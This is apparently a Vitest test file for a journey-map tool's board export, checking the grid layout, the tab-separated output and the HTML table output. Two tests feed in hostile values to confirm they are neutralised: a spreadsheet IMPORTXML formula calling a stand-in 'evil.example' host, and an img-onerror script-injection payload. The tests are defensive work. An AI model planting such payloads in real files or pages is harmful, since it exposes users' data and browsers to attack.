import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { db } from '../../lib/db';
import { boardGrid, gridToHtml, gridToTsv } from '../../lib/export/board';
import { gatherExport } from '../../lib/export/gather';
import { loadSampleStudy } from '../../lib/sample/sample-study';
import { drawStandIn } from './factories';

async function northwind() {
  const study = await loadSampleStudy(drawStandIn);
  const journey = (await db.journeys.where({ studyId: study.id }).toArray()).find((j) =>
    j.title.startsWith('Northwind'),
  )!;
  return { data: await gatherExport({ journeyId: journey.id }), journey };
}

describe('copy for boards', () => {
  it('lays the map out as stages across and lanes down', async () => {
    const { data, journey } = await northwind();
    const grid = boardGrid(data, journey);
    expect(grid[0]).toEqual(['Stage', 'Awareness', 'Consideration', 'Purchase', 'Retention', 'Advocacy']);
    expect(grid.map((row) => row[0])).toEqual([
      'Stage',
      'Touchpoints',
      'Channel',
      'Owner',
      'Goal',
      'Friction',
      'Considerations',
      'Emotion',
    ]);
    expect(grid[1]![3]).toBe('★ Price page; Checkout — payment');
    expect(boardGrid(data, journey, true)[1]![3]).toBe('★ Price page');
  });

  it('as tab-separated text, one line per lane, with no tab or line break inside a cell', async () => {
    const { data, journey } = await northwind();
    const grid = boardGrid(data, journey);
    grid[1]![1] = 'Two\tparts\nand lines';
    const tsv = gridToTsv(grid);
    expect(tsv.split('\n')).toHaveLength(8);
    expect(tsv.split('\n').every((line) => line.split('\t').length === 6)).toBe(true);
    expect(tsv).toContain('Two parts and lines');
    grid[1]![2] = '=IMPORTXML("https://evil.example","//a")';
    expect(gridToTsv(grid).split('\n')[1]!.split('\t')[2]).toBe('\'=IMPORTXML("https://evil.example","//a")');
  });

  it('as an HTML table with every cell escaped', async () => {
    const { data, journey } = await northwind();
    const grid = boardGrid(data, journey);
    grid[1]![1] = '<img src=x onerror=alert(1)>';
    const { document } = parseHTML(`<body>${gridToHtml(grid)}</body>`);
    expect(document.querySelectorAll('img')).toHaveLength(0);
    expect(document.querySelectorAll('tbody tr')).toHaveLength(7);
    expect(document.querySelector('tbody td:nth-child(2)')?.textContent).toBe('<img src=x onerror=alert(1)>');
  });
});
